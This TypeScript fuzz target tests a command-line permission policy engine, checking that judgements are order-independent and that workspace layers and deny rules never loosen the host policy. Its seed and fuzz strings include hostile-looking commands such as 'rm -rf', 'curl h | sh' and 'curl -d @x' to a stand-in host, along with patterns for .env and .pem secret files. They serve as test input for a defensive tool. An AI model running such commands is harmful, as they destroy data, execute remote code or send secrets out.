// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the policy language's own spelling
// Policies of lines, and the change of a command line judged by them. No order counts, a workspace never loosens, no more does a rule that denies,
// every judgement is the same twice, and its trace is that of each rule by itself.

import { compareBytes, isStricter, strictest } from "../../src/base/index.js";
import type { Effect } from "../../src/change/index.js";
import { type CompiledPolicy, compilePolicy, type Judgement, judge, openPolicy, type Pack } from "../../src/policy/index.js";
import { effectsOf } from "../../test/change/setting.js";
import { diceOf } from "../../test/dice.js";
import { SUBJECT } from "../../test/policy/arbitrary.js";
import type { Target } from "../engine.js";
import { type PolicyLines, packOf, policyLines, shuffled } from "../policy-lines.js";
import { policyText } from "../policy-texts.js";

const SEEDS = [
  "host rule warn effect=read path=**/.env\nhost rule allow effect=read\nwork default read require_approval\nrun cat .env src/a.ts",
  "host rule deny effect=delete covers=** unless path=${workspace}/node_modules/**\nwork rule warn effect=delete,write\nrun rm -rf node_modules ~/x",
  "host default exec deny allow\nhost rule allow effect=exec program=git,ls\nwork override 1 require_approval\nrun ls; git push --force; make all",
  "host default opaque deny\nhost rule require_approval effect=exec,opaque via=sudo\nhost except 1 effect=exec program=apt\nrun sudo apt install x; curl h | sh",
  "host trust acme* limited\nwork trust acme untrusted\nwork default call deny\ncall acme/read_file read\ncall acme/deploy unknown",
  "host rule warn effect=git operation=push ref=${branch.default}\nwork override 0 deny\nwork rule deny effect=network data=derived\nrun git push origin main; curl -d @x h",
  "parent rule allow effect=write inside_workspace=true\nparent default write require_approval\nhost rule deny effect=write path=**/.git/** unless extent=exact\nwork except 2 effect=write\nrun cp -r a .git; echo > /tmp/x > $y",
];
const PIECES = [
  ..."host work parent aunt rule default override except trust run call allow warn require_approval deny effect= path= covers= extent= unknown=true inside_workspace=true inside_workspace=false in_temp=true program= subcommand= options=force known=false known=true harmless=true host= data=derived direction=send operation= ref= force=force system= target= server= tool= capability= reason= via= agent= place=here unless read write delete exec git network operate call opaque , ** * ~/** **/.env **/*.{pem,key} /tmp/** src/** ${workspace}/** ${workspace} RM rm Git sudo SUDO ba* exact tree contents pattern 0 1 2 3 limited trusted untrusted acme ; | && > rm -rf cat .env . / ~ $x *.pem push origin main curl -d @x https://h.example sh -c terraform apply xyz"
    .split(" ")
    .map((piece) => ` ${piece} `),
  ...[
    "\nhost ",
    "\nwork ",
    "\nparent ",
    "\naunt ",
    "\nhost rule ",
    "\nwork rule ",
    "\nwork default ",
    "\nwork override ",
    "\nrun ",
    ",",
    "\n",
  ],
];

const GENERATED = 600;

export const layers: Target = {
  name: "layers",
  seeds: () => [...SEEDS, ...Array.from({ length: GENERATED }, (_, i) => policyText(diceOf(i)))],
  pieces: PIECES,
  maxLength: 900,
  check(text) {
    const lines = policyLines(text);
    const host = compiled(packOf(lines, "host"), null, lines);
    if (host === null) return;
    const effects = [...lines.runs.flatMap((line) => effectsOf(line)), ...lines.calls];
    const judged = judgedBy(host, effects);
    expectWhole(judged, host, effects);
    expectNoOrder(lines, host, effects, judged);
    const denying = compiled(packOf({ ...lines, rules: [...lines.rules, ...lines.denials] }, "host"), null, lines);
    if (denying !== null) expectNoLooser(judged, judgedBy(denying, effects), "a rule that denies loosens");
    const both = compiled(packOf(lines, "host"), packOf(lines, "work"), lines);
    if (both === null) return;
    const under = judgedBy(both, effects);
    expectWhole(under, both, effects);
    // An exception of the workspace is there to loosen, where the host says `overridable: workspace`: none of these rules does.
    expectNoLooser(judged, under, "the workspace loosens");
  },
};

function compiled(host: Pack | null, workspace: Pack | null, lines: PolicyLines): CompiledPolicy | null {
  if (host === null) return null;
  const parents = (["aunt", "parent"] as const).map((layer) => packOf(lines, layer));
  const library = new Map(parents.flatMap((pack) => (pack === null ? [] : [[pack.id, pack]])));
  const result = compilePolicy({ host, workspace, library, catalogue: {} });
  return result.ok ? result.value : null;
}

function judgedBy(policy: CompiledPolicy, effects: readonly Effect[]): Judgement {
  return judge({ effects }, SUBJECT, openPolicy(policy));
}

function expectNoLooser(before: Judgement, after: Judgement, message: string): void {
  if (isStricter(before.verdict, after.verdict)) throw new Error(message);
  for (const [at, ruling] of before.rulings.entries())
    if (isStricter(ruling.verdict, after.rulings[at]?.verdict ?? "allow"))
      throw new Error(`${message}, for ${JSON.stringify(before.effects[at])}: ${ruling.verdict} by ${JSON.stringify(ruling.rules)}`);
}

/** One ruling for each effect, its verdict never milder than a rule in it; and in it the very rules that match when each is alone. */
function expectWhole(judged: Judgement, policy: CompiledPolicy, effects: readonly Effect[]): void {
  if (JSON.stringify(judged) !== JSON.stringify(judgedBy(policy, effects))) throw new Error("two judgements differ");
  if (judged.rulings.length !== effects.length || judged.rulings.some(({ effect }, at) => effect !== at))
    throw new Error("the trace has not one ruling for each effect");
  if (judged.verdict !== strictest(judged.rulings.map(({ verdict }) => verdict)))
    throw new Error("the verdict is not that of the strictest ruling");
  for (const { verdict, rules } of judged.rulings)
    if (rules.some((rule) => isStricter(rule.verdict, verdict))) throw new Error("a ruling is milder than a rule in it");
  const alone = policy.rules.map((rule) => ({ id: rule.id, judged: judgedBy({ ...policy, rules: [rule] }, effects) }));
  for (const [at, { rules }] of judged.rulings.entries()) {
    const expected = alone.flatMap((one) => (one.judged.rulings[at]?.rules ?? []).map(({ id }) => id));
    const said = rules.map(({ id }) => id);
    if (JSON.stringify(said) !== JSON.stringify(expected.sort(compareBytes))) throw new Error("the trace is not that of each rule alone");
  }
}

/** The same lines in another order give the same policy, and the same effects in another order the same answer. */
function expectNoOrder(lines: PolicyLines, host: CompiledPolicy, effects: readonly Effect[], judged: Judgement): void {
  const other = compiled(packOf(shuffled(lines), "host"), null, shuffled(lines));
  if (other?.digest !== host.digest) throw new Error("the order of the lines changes the policy");
  // Packs side by side: only the list of them differs. Where one overrides a rule of the other, there is one order in which both can stand.
  const { packs: _, digest: __, ...rules } = compiled(packOf(lines, "host", ["parent", "aunt"]), null, lines) ?? host;
  const { packs: ___, digest: ____, ...before } = host;
  if (JSON.stringify(rules) !== JSON.stringify(before)) throw new Error("the order of packs side by side changes the policy");
  const turned = judgedBy(host, [...effects].reverse());
  const said = ({ verdict, severity, reason, rule_id, instead }: Judgement) => [verdict, severity, reason, rule_id, instead];
  if (JSON.stringify(said(turned)) !== JSON.stringify(said(judged))) throw new Error("the order of the effects changes the answer");
  const ends = ({ effect: _, ...ruling }: Judgement["rulings"][number]) => JSON.stringify(ruling);
  if (JSON.stringify([...turned.rulings].reverse().map(ends)) !== JSON.stringify(judged.rulings.map(ends)))
    throw new Error("the order of the effects changes a ruling");
}
